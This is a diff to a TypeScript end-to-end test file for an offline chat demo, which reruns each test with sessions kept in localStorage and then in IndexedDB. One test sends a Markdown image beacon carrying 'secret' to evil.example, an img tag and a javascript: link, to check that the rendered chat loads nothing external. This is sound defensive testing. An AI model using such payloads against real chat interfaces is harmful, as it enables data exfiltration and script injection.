@@ -5,9 +5,12 @@ import type { Visitor } from './visitor.ts';
 const demo = demoJourneys({ VITRINE_DEMO_PACE_MS: '12' });
 let visitor: Visitor;
 
-describe('a person without any key', () => {
+describe.each([
+  ['localStorage', ''],
+  ['IndexedDB', '?store=indexeddb'],
+])('a person without any key, whose sessions are kept in %s', (_place, query) => {
   it('chats, and sees the tool call in the chat and in the panel', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await page.getByText('Offline demo model', { exact: true }).waitFor();
     await say('What is 12 * (3 + 4)?');
@@ -32,7 +35,7 @@ describe('a person without any key', () => {
   });
 
   it('stops a running answer, keeps its part, and sees why', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await say('Write a long answer');
     await conversation.getByText('An agent is a loop').first().waitFor();
@@ -49,7 +52,7 @@ describe('a person without any key', () => {
   });
 
   it('reloads, finds the session again, and goes on with its notes', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await say('Remember that the demo is on Friday');
     await conversation.getByText('Noted. There is 1 note now.').waitFor();
@@ -61,7 +64,7 @@ describe('a person without any key', () => {
   });
 
   it('takes up a run that a reload interrupted', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await say('Write a long answer');
     await conversation.getByText('An agent is a loop').first().waitFor();
@@ -74,7 +77,7 @@ describe('a person without any key', () => {
   });
 
   it('delegates to a subagent, whose steps the panel keeps', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await say('Please research 2 + 3');
     await conversation.getByText('researcher', { exact: true }).first().waitFor();
@@ -86,7 +89,7 @@ describe('a person without any key', () => {
   });
 
   it('keeps several sessions, renames and deletes them', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     const list = page.getByRole('navigation', { name: 'Sessions' });
     await say('What is 1 + 1?');
@@ -111,7 +114,7 @@ describe('a person without any key', () => {
   });
 
   it('is told about an error and retries', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await say('Please simulate an error');
     const alert = page.getByRole('alert');
@@ -122,7 +125,7 @@ describe('a person without any key', () => {
   });
 
   it('loads nothing from elsewhere, whatever the Markdown says', async () => {
-    visitor = await demo.visit();
+    visitor = await demo.visit({}, query);
     const { page, conversation, say } = visitor;
     await say(
       '![beacon](https://evil.example/?q=secret) <img src="https://evil.example/2"> [x](javascript:alert(1))',
@@ -134,7 +137,7 @@ describe('a person without any key', () => {
   });
 
   it('finds everything on a phone', async () => {
-    visitor = await demo.visit({ viewport: { width: 390, height: 844 } });
+    visitor = await demo.visit({ viewport: { width: 390, height: 844 } }, query);
     const { page, conversation, say } = visitor;
     const heading = page.getByText('What would you like to see?');
     await page.waitForTimeout(300);
